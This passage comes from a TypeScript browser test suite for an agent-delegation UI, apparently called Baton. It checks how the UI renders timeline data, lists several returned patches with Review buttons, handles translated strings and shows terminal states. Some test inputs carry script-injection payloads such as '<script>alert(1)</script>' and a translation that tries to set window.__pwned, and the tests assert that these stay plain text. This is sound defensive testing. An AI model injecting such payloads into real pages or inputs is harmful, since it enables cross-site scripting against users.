        delegation({
          timeline: [
            {
              seq: 1,
              at: new Date().toISOString(),
              kind: 'step',
              text: 'Waiting for approval',
              markdown: true,
              data: [
                { value, bytes },
                {
                  summary: { type: 'object', count: 120, keys: ['huge', '<script>alert(1)</script>'] },
                  bytes: 5_000_000,
                },
              ],
            },
          ],
        }),
      ),
    );
    const part = page.locator('#timeline .data-part').first();
    // Collapsed: the top level is a closed <details>, with the value's size in its summary.
    assert.equal(await part.locator('details.data-node').first().getAttribute('open'), null);
    assert.match(await part.locator('summary').first().innerText(), /\{4 keys\}/);
    await part.locator('summary').first().click();
    const top = await part.locator('.data-children').first().innerText();
    assert.match(top, /request: \{3 keys\}/);
    assert.match(top, /status: "awaiting_approval"/);
    assert.match(top, /tool: \[2 items\]/);
    // Opening the levels shows scalars as text; the agent's markup stays text.
    // (in document order, so each level is visible when it is clicked; the top one is open already)
    for (const s of (await part.locator('details.data-node > summary').all()).slice(1)) await s.click();
    const all = await part.innerText();
    assert.match(all, /file_path: "<b>src\/a\.ts<\/b>"/);
    assert.match(all, /n: 3/);
    assert.match(all, /ok: true/);
    assert.match(all, /none: null/);
    assert.equal(await page.locator('#timeline .data-part b, #timeline .data-part img').count(), 0);
    // The long string is folded behind its length.
    const folded = part.locator('details.data-long');
    assert.equal(await folded.count(), 1);
    assert.match(
      await folded.locator('summary').innerText(),
      new RegExp(`${long.length.toLocaleString('en-US')} characters`),
    );
    assert.equal(await folded.getAttribute('open'), null);
    // A value too large to keep shows its summary: its keys as text, and that the journal keeps it.
    const summary = page.locator('#timeline .data-summary');
    assert.match(await summary.innerText(), /\{huge, <script>alert\(1\)<\/script>, …\}/);
    assert.match(await summary.innerText(), /120 keys, too large to show here/);
    assert.equal(await page.locator('#timeline script').count(), 0);
    await page.screenshot({ path: join(shots, 'data-part.png') });
    await page.close();
  });

  it('lists several returned patches with their names and file counts, each with a Review button that posts its index', async () => {
    const page = await open(
      snapshot(
        delegation({
          state: 'completed',
          terminal: true,
          patch: { files: 1, additions: 1, deletions: 1 },
          patches: [
            {
              index: 0,
              name: 'fix.diff',
              source: 'artifact',
              signature: 'verified',
              stats: { files: 1, additions: 1, deletions: 1 },
            },
            {
              index: 1,
              name: 'message',
              source: 'message',
              signature: 'unsigned',
              stats: { files: 2, additions: 3, deletions: 0 },
            },
          ],
          patchLinks: [{ name: 'extra.diff', url: 'https://patches.example/extra.diff' }],
        }),
      ),
    );
    const rows = page.locator('#patches .patch-choice');
    assert.equal(await rows.count(), 2);
    assert.match(await rows.nth(0).innerText(), /fix\.diff[\s\S]*1 file[\s\S]*verified/);
    assert.match(await rows.nth(1).innerText(), /the agent’s message[\s\S]*2 files[\s\S]*unsigned/);
    assert.equal(await page.locator('#review').count(), 0, 'no single Review Changes button beside the list');
    assert.match(
      await page.innerText('.patch-link'),
      /returned the patch extra\.diff as a link \(https:\/\/patches\.example\/extra\.diff\), which Baton does not download/,
    );
    await rows.nth(1).locator('.review-patch').click();
    await page.waitForFunction(() =>
      (globalThis as unknown as { __posted: { method?: string }[] }).__posted.some((m) => m.method === 'reviewChanges'),
    );
    const msgs = (await posted(page)) as { type: string; method?: string; params?: unknown }[];
    assert.deepEqual(msgs.find((m) => m.method === 'reviewChanges')?.params, { patch: 1 });
    await page.screenshot({ path: join(shots, 'patch-choices.png') });
    await page.close();
  });

  it('shows the strings of the bundle the host passes, and a translation is text, never markup', async () => {
    translated = translatedPage({
      Cancel: 'Abbrechen',
      Working: 'In Arbeit',
      '{0} left': 'noch {0}',
      Timeline: '</main><script>window.__pwned=1</script><b id="injected">Verlauf</b>',
    });
    const page = await open(snapshot(delegation({})), '/translated.html');
    assert.equal(await page.innerText('#cancel'), 'Abbrechen');
    assert.match(await page.innerText('#state'), /In Arbeit/);
    assert.match(await page.innerText('.facts'), /noch \d+m \d\ds/);
    assert.match(await page.innerText('h2'), /<\/main><script>window.__pwned=1<\/script><b id="injected">Verlauf/);
    assert.equal(await page.locator('#injected').count(), 0);
    assert.equal(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned), undefined);
    // A message the bundle lacks stays English.
    assert.match(await page.innerText('.facts'), /may only propose a patch/);
    await page.close();
  });

  for (const [state, over, expect] of terminal) {
    it(`shows the ${state} outcome distinctly${over.signature ? ` (signature ${over.signature.status})` : ''}`, async () => {
      const done = !['auth-required'].includes(state);
      const page = await open(
        snapshot(delegation({ state, terminal: done, endedAt: done ? new Date().toISOString() : undefined, ...over })),
      );
      assert.equal(await page.getAttribute('#state', 'data-state'), state);
      assert.match(await page.innerText('body'), expect);
      assert.equal(await page.locator('#cancel').count(), done ? 0 : 1);
      await page.screenshot({ path: join(shots, `${state}${over.signature ? `-${over.signature.status}` : ''}.png`) });
      await page.close();
    });
  }
});
